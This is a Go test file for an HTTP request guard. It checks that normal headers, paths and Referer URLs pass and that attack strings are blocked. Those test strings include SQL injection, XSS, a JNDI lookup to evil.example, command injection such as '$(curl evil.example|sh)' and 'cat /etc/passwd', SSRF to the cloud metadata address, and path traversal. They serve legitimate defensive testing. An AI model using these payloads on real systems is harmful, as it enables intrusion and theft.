package guard

import (
	"context"
	"maps"
	"testing"
)

// TestHeaderPolicy: every header is inspected; values that conform to their
// header's grammar pass, and attacks placed in headers that used to be
// skipped are found.
func TestHeaderPolicy(t *testing.T) {
	g, _ := newTestGuard(t)
	benign := []Param{
		{"accept", "*/*"},
		{"accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"},
		{"accept", "application/json, text/plain, */*"},
		{"accept", `multipart/mixed; boundary="graphql"; subscriptionSpec="1.0", application/json`},
		{"accept-encoding", "gzip, deflate, br, zstd"},
		{"accept-encoding", "*;q=0"},
		{"accept-language", "en-US,en;q=0.9,fr-CA;q=0.7,*;q=0.5"},
		{"accept-language", "zh-Hant-TW, es-419"},
		{"traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"},
		{"tracestate", "rojo=00f067aa0ba902b7,congo=t61rcWkgMzE"},
		{"x-request-id", "4f8c2a1e-7b3d-4e59-9a61-2c0d8e5f1b77"},
		{"x-amzn-trace-id", "Root=1-5759e988-bd862e3fe1be46a994272793;Parent=53995c3f42cd8ad8;Sampled=1"},
		{"x-cloud-trace-context", "105445aa7843bc8bf206b12000100000/1;o=1"},
		{"x-forwarded-proto", "https"},
		{"x-forwarded-port", "443"},
		{"content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"},
		{"host", "127.0.0.1:8080"},
		{"host", "localhost"},
		{"host", "[::1]:8443"},
		{"x-forwarded-for", "169.254.169.254"},
		{"x-forwarded-for", "203.0.113.7, 10.0.0.12"},
	}
	for _, h := range benign {
		t.Run("benign "+h.Name+" "+h.Value, func(t *testing.T) {
			d := g.Inspect(context.Background(), httpInv(func(i *Invocation) { i.Headers = []Param{h} }))
			if d.Action != ActionAllow {
				t.Fatalf("benign header refused: %+v", d)
			}
		})
	}
	attacks := []struct {
		h   Param
		cat Category
	}{
		{Param{"accept", "*/*;q=0.8, ${jndi:ldap://evil.example/a}"}, JNDI},
		{Param{"accept", "*/*)(uid=*))(|(uid=*"}, LDAPi},
		{Param{"accept-language", "en-US' OR '1'='1' -- "}, SQLi},
		{Param{"accept-encoding", "gzip; cat /etc/passwd"}, CmdI},
		{Param{"x-request-id", "1' UNION SELECT password FROM users--"}, SQLi},
		{Param{"x-forwarded-proto", "https<script>alert(1)</script>"}, XSS},
		{Param{"traceparent", "00-${jndi:ldap://evil.example/x}-b7ad6b7169203331-01"}, JNDI},
		{Param{"tracestate", "vendor=$(curl evil.example|sh)"}, CmdI},
		{Param{"content-length", "0; rm -rf /tmp/x"}, CmdI},
		{Param{"host", "shop.example';DROP TABLE users;--"}, SQLi},
		// a URL where a host or an address belongs: judged as a URL
		{Param{"host", "http://169.254.169.254/latest/meta-data/"}, SSRF},
		{Param{"x-forwarded-for", "http://169.254.169.254/latest/meta-data/"}, SSRF},
	}
	for _, tc := range attacks {
		t.Run("attack "+tc.h.Name, func(t *testing.T) {
			d := g.Inspect(context.Background(), httpInv(func(i *Invocation) { i.Headers = []Param{tc.h} }))
			if d.Action != ActionBlock || findingAt(d, "headers."+tc.h.Name, tc.cat) == nil {
				t.Fatalf("attack in %s not blocked as %s: %+v", tc.h.Name, tc.cat, d)
			}
		})
	}
}

func TestHeaderGrammar(t *testing.T) {
	cases := []struct {
		name, v string
		want    bool
	}{
		{"accept", "*/*", true},
		{"accept", "*/json", false},
		{"accept", "text/html;level=1;q=0.5", true},
		{"accept", "text/html;q=", false},
		{"accept", "", false},
		{"accept", ",", false},
		{"accept", "text/html; x=\"a'b\"", false},
		{"accept-language", "de-CH-1996", true},
		{"accept-language", "123", false},
		{"accept-language", "abcdefghi", false},
		{"traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01", true},
		{"traceparent", "00-0AF7651916CD43DD8448EB211C80319C-b7ad6b7169203331-01", false},
		{"traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331", false},
		{"x-request-id", "4f8c2a1e-7b3d-4e59-9a61-2c0d8e5f1b77", false}, // ids have no grammar: inspected
		{"tracestate", "a=http://169.254.169.254/", false},
		{"host", "[::1", false},
		{"host", "a.example:80x", false},
		{"user-agent", "curl/8.5.0", false}, // no grammar: always inspected
	}
	for _, tc := range cases {
		t.Run(tc.name+" "+tc.v, func(t *testing.T) {
			if got := headerConforms(tc.name, tc.v); got != tc.want {
				t.Fatalf("headerConforms(%q, %q) = %v, want %v", tc.name, tc.v, got, tc.want)
			}
		})
	}
}

// TestRouteDecoded: the route allowlist judges the path the handler routes
// on, decoded and normalised.
func TestRouteDecoded(t *testing.T) {
	g, _ := newTestGuard(t, WithAllowRoutes("POST /orders/{id}", "GET /health"))
	cases := []struct {
		name    string
		route   string
		path    string
		params  []Param
		allowed bool
	}{
		{"plain", "", "/orders/42", nil, true},
		{"encoded slash", "", "/orders/1%2fdelete", nil, false},
		{"encoded dot-dot", "", "/orders/..%2fadmin", nil, false},
		{"dot-dot", "", "/orders/1/../../admin", nil, false},
		{"empty param", "", "/orders/", nil, false},
		{"double slash", "", "//orders//42", nil, true},
		{"dot segment", "", "/orders/./42", nil, true},
		{"encoded letters", "", "/orders/%34%32", nil, true},
		{"case", "", "/ORDERS/42", nil, false},
		{"REST resource", "/orders/{id}", "/orders/42", []Param{{"id", "42"}}, true},
		{"REST resource, decoded slash in param", "/orders/{id}", "/orders/1%2fdelete", []Param{{"id", "1/delete"}}, false},
		{"REST resource, dot-dot param", "/orders/{id}", "/orders/..%2fadmin", []Param{{"id", "../admin"}}, false},
		{"REST resource, empty param", "/orders/{id}", "/orders/", []Param{{"id", ""}}, false},
		{"route key", "POST /orders/{id}", "/orders/7", []Param{{"id", "7"}}, true},
		{"route key, slash in param", "POST /orders/{id}", "/orders/7%2Fcancel", []Param{{"id", "7/cancel"}}, false},
		{"$default", "$default", "/orders/7", nil, true},
		{"$default encoded", "$default", "/orders/7%2f..%2f..%2fadmin", nil, false},
		{"proxy resource", "/{proxy+}", "/orders/7", []Param{{"proxy", "orders/7"}}, true},
		{"proxy resource, traversal", "/{proxy+}", "/orders/..%2f..%2fadmin", []Param{{"proxy", "orders/../../admin"}}, false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			inv := httpInv(func(i *Invocation) {
				i.Method, i.Route, i.Path, i.PathParams = "POST", tc.route, tc.path, tc.params
			})
			d := g.Inspect(context.Background(), inv)
			blockedByRoute := false
			for _, f := range d.Findings {
				if f.Rule == "allowlist.route" {
					blockedByRoute = true
				}
			}
			if blockedByRoute == tc.allowed {
				t.Fatalf("path %q route %q: allowed=%v, want %v: %+v", tc.path, tc.route, !blockedByRoute, tc.allowed, d)
			}
		})
	}
}

func TestNormalizePath(t *testing.T) {
	for in, want := range map[string]string{
		"/":                 "/",
		"/a/b":              "/a/b",
		"/a/b/":             "/a/b",
		"/a//b":             "/a/b",
		"/a/./b":            "/a/b",
		"/a/../../b":        "/b",
		"/a%2Fb":            "/a/b",
		"/a/%2e%2e/b":       "/b",
		"/a%zz":             "/a%zz",
		"/%E2%9C%93":        "/\u2713",
		"orders":            "/orders",
		"/a/b/..%2F..%2Fc/": "/c",
	} {
		if got := normalizePath(in); got != want {
			t.Errorf("normalizePath(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestRefererQuery: a Referer URL's query is judged parameter by
// parameter, as the request's own query is ('+' a space, each value
// whole), and the page's address up to its '?' on its own.
func TestRefererQuery(t *testing.T) {
	g, _ := newTestGuard(t)
	for _, v := range []string{
		"https://shop.example/search?q=Read+the+.htaccess+docs",
		"https://shop.example/?q=document.cookie+is+a+DOM+property&page=2",
		"https://shop.example/?q=1+%3C+2+and+3+%3E+2",
		"https://www.example.com/products?id=42&sort=price#reviews",
		"https://www.example.com/",
		"android-app://com.example.app/?utm_source=select+your+size",
	} {
		t.Run("benign "+v, func(t *testing.T) {
			d := g.Inspect(context.Background(), httpInv(func(i *Invocation) { i.Headers = []Param{{"referer", v}} }))
			if d.Action != ActionAllow {
				t.Fatalf("benign Referer refused: %+v", d)
			}
		})
	}
	for _, tc := range []struct {
		v, loc string
		cat    Category
	}{
		{"https://shop.example/?q=select+*+from+users", "headers.referer<query>.q", SQLi},
		{"https://shop.example/list?page=1&sort=1+order+by+10--", "headers.referer<query>.sort", SQLi},
		{"http://www.example.com/?x=%3Bcat+%2Fetc%2Fpasswd", "headers.referer<query>.x", CmdI},
		{"http://www.example.com/?a=1#<script>alert(1)</script>", "headers.referer<query>.a", XSS},
		{"http://evil.example/shell.txt?", "headers.referer", PathTraversal},
		{"<script>alert(1)</script>?a=1", "headers.referer", XSS},
	} {
		t.Run("attack "+tc.v, func(t *testing.T) {
			d := g.Inspect(context.Background(), httpInv(func(i *Invocation) { i.Headers = []Param{{"referer", tc.v}} }))
			if d.Action != ActionBlock || findingAt(d, tc.loc, tc.cat) == nil {
				t.Fatalf("attack in Referer not blocked as %s at %s: %+v", tc.cat, tc.loc, d)
			}
		})
	}
}

// TestSessionIDParam: a parameter named as a server's session cookie is
// session fixation in a query, a form or a JSON body's top level; the
// cookie of that name, a nested key and a Referer's query are not.
func TestSessionIDParam(t *testing.T) {
	g, _ := newTestGuard(t)
	has := func(d Decision) bool {
		for _, f := range d.Findings {
			if f.Category == SessionFixation {
				return true
			}
		}
		return false
	}
	for name, inv := range map[string]*Invocation{
		"query": httpInv(func(i *Invocation) { i.Query = []Param{{"JSESSIONID", "74B0CB414BD77D17B5680A6386EF1666"}} }),
		"form": httpInv(func(i *Invocation) {
			i.ContentType = "application/x-www-form-urlencoded"
			i.Body = []byte("user=bob&PHPSESSID=abc123")
		}),
		"json": httpInv(func(i *Invocation) {
			i.ContentType = "application/json"
			i.Body = []byte(`{"ASPSESSIONIDQQGGGNCU":"x"}`)
		}),
	} {
		t.Run("attack "+name, func(t *testing.T) {
			if d := g.Inspect(context.Background(), inv); d.Action != ActionBlock || !has(d) {
				t.Fatalf("session id parameter not blocked as session fixation: %+v", d)
			}
		})
	}
	for name, inv := range map[string]*Invocation{
		"cookie":  httpInv(func(i *Invocation) { i.Cookies = []Param{{"JSESSIONID", "74B0CB414BD77D17B5680A6386EF1666"}} }),
		"referer": httpInv(func(i *Invocation) { i.Headers = []Param{{"referer", "https://shop.example/cart?PHPSESSID=abc"}} }),
		"nested": httpInv(func(i *Invocation) {
			i.ContentType = "application/json"
			i.Body = []byte(`{"cookies":{"JSESSIONID":"x"}}`)
		}),
		"session_id": httpInv(func(i *Invocation) { i.Query = []Param{{"session_id", "abc"}} }),
	} {
		t.Run("benign "+name, func(t *testing.T) {
			if d := g.Inspect(context.Background(), inv); d.Action != ActionAllow {
				t.Fatalf("benign session name refused: %+v", d)
			}
		})
	}
}

// TestHeaderSameValue: a value that conformed to one header's grammar
// with no detector match is not judged again for the next header whose
// grammar admits it; the findings of two headers sharing a value are
// those of each judged alone, whatever the two names and their order.
func TestHeaderSameValue(t *testing.T) {
	g, _ := newTestGuard(t)
	names := []string{"accept", "content-type", "host", "x-forwarded-proto", "accept-encoding", "content-length", "user-agent", "x-forwarded-for"}
	values := []string{"application/json", "*/*", "localhost", "https", "gzip", "127.0.0.1:8080", "0", "169.254.169.254",
		"web.config", "boot.ini", "metadata.google.internal", "x", "text/html;q=0.9"}
	alone := func(h Param) map[string]bool {
		d := g.Inspect(context.Background(), httpInv(func(i *Invocation) { i.Headers = []Param{h} }))
		out := map[string]bool{}
		for _, f := range d.Findings {
			out[f.Rule+" "+f.Location] = true
		}
		return out
	}
	flagged := 0
	for _, v := range values {
		for _, n1 := range names {
			for _, n2 := range names {
				want := alone(Param{n1, v})
				for k := range alone(Param{n2, v}) {
					want[k] = true
				}
				d := g.Inspect(context.Background(), httpInv(func(i *Invocation) { i.Headers = []Param{{n1, v}, {n2, v}} }))
				got := map[string]bool{}
				for _, f := range d.Findings {
					got[f.Rule+" "+f.Location] = true
				}
				if !maps.Equal(got, want) {
					t.Errorf("%s and %s = %q: findings %v, each alone %v", n1, n2, v, got, want)
				}
				if len(want) > 0 {
					flagged++
				}
			}
		}
	}
	if flagged == 0 {
		t.Error("no pair of headers had a finding: the values test nothing")
	}
}
